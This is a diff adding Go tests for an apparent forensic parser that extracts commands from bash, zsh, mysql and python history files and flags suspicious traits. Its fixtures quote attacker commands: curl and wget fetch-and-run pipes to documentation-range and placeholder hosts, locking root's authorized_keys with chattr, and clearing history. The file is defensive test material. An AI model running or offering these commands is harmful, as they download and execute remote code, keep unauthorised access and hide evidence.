@@ -1,0 +1,99 @@
+package history
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"icecore/forensics/artifact"
+)
+
+func extract(t testing.TB, in *artifact.Input) string {
+	t.Helper()
+	var b strings.Builder
+	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) {
+		if in.Content != nil && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > in.Content.Size()) {
+			t.Errorf("line %d: source outside of the file", r.Source.Line)
+		}
+		fmt.Fprintf(&b, "%d+%d %s", r.Source.Line, r.Source.Length, r.Kind)
+		for _, s := range r.Times {
+			fmt.Fprintf(&b, " %s=%s", s.What, s.Time.Format(time.RFC3339))
+		}
+		for _, f := range r.Fields {
+			fmt.Fprintf(&b, " %s=%s", f.Name, f.Value)
+		}
+		b.WriteString("\n")
+	})
+	if err != nil {
+		t.Error(err)
+	}
+	return b.String()
+}
+
+func input(name string, b []byte) *artifact.Input {
+	return &artifact.Input{Path: name, Content: io.NewSectionReader(bytes.NewReader(b), 0, int64(len(b)))}
+}
+
+func TestExtract(t *testing.T) {
+	for _, tt := range []struct{ path, want string }{
+		{"/root/.bash_history", `4+40 history.command typed=2026-11-20T07:50:10Z command=curl -fsSL http://203.0.113.77/i.sh | sh user=root shell=bash programs=curl,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
+6+36 history.command command=chattr +i /root/.ssh/authorized_keys user=root shell=bash programs=chattr traits=chattr
+7+10 history.command command=history -c user=root shell=bash programs=history traits=history_off
+0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:10Z shell=bash user=root lines=8 size=158
+`},
+		{"/home/deploy/.zsh_history", `2+70 history.command typed=2026-11-20T07:50:05Z command=wget -q http://203.0.113.77/x -O /tmp/x 
+ && sh /tmp/x user=deploy shell=zsh programs=wget,sh,/tmp/x urls=http://203.0.113.77/x traits=fetch,fetch_exec,temp_exec
+0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:05Z shell=zsh user=deploy lines=3 size=94
+`},
+	} {
+		b, err := os.ReadFile("testdata" + tt.path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d := cmp.Diff(tt.want, extract(t, input(tt.path, b))); d != "" {
+			t.Errorf("%s: %s", tt.path, d)
+		}
+	}
+}
+
+func TestFiles(t *testing.T) {
+	for _, tt := range []struct {
+		in   *artifact.Input
+		want string
+	}{
+		{&artifact.Input{Path: "/root/.bash_history", Target: "/dev/null"}, "0+0 history.file shell=bash user=root link_target=/dev/null\n"},
+		{input("/root/.bash_history", nil), "0+0 history.file shell=bash user=root lines=0 size=0 empty=yes\n"},
+		{input("/home/x/.python_history", []byte("import os\nprint('curl http://x/a | sh')\n")), "0+0 history.file shell=python user=x lines=2 size=40\n"},
+		{
+			input("/home/x/.mysql_history", []byte(`\! curl http://x.invalid/a | sh`)),
+			"1+31 history.command command=\\! curl http://x.invalid/a | sh user=x shell=mysql programs=curl,sh urls=http://x.invalid/a traits=fetch,pipe_to_shell\n0+0 history.file shell=mysql user=x lines=1 size=31\n",
+		},
+	} {
+		if d := cmp.Diff(tt.want, extract(t, tt.in)); d != "" {
+			t.Errorf("%s: %s", tt.in.Path, d)
+		}
+	}
+}
+
+func TestUnmeta(t *testing.T) {
+	// zsh writes the bytes of é (c3 a9) as they are, and 0x83 as 0x83 0xa3.
+	if got := unmeta([]byte("caf\xc3\xa9 \x83\xa3"), "zsh"); string(got) != "caf\xc3\xa9 \x83" {
+		t.Errorf("%q", got)
+	}
+}
+
+func FuzzExtract(f *testing.F) {
+	f.Add(byte(0), []byte("#1795161000\nls\n#\n#x\n"))
+	f.Add(byte(1), []byte(": 1795161000:0;a\\\nb\n: :;\\"))
+	f.Add(byte(2), []byte(`\! x`))
+	f.Fuzz(func(t *testing.T, which byte, b []byte) {
+		extract(t, input("/root/."+[]string{"bash", "zsh", "mysql"}[which%3]+"_history", b))
+	})
+}
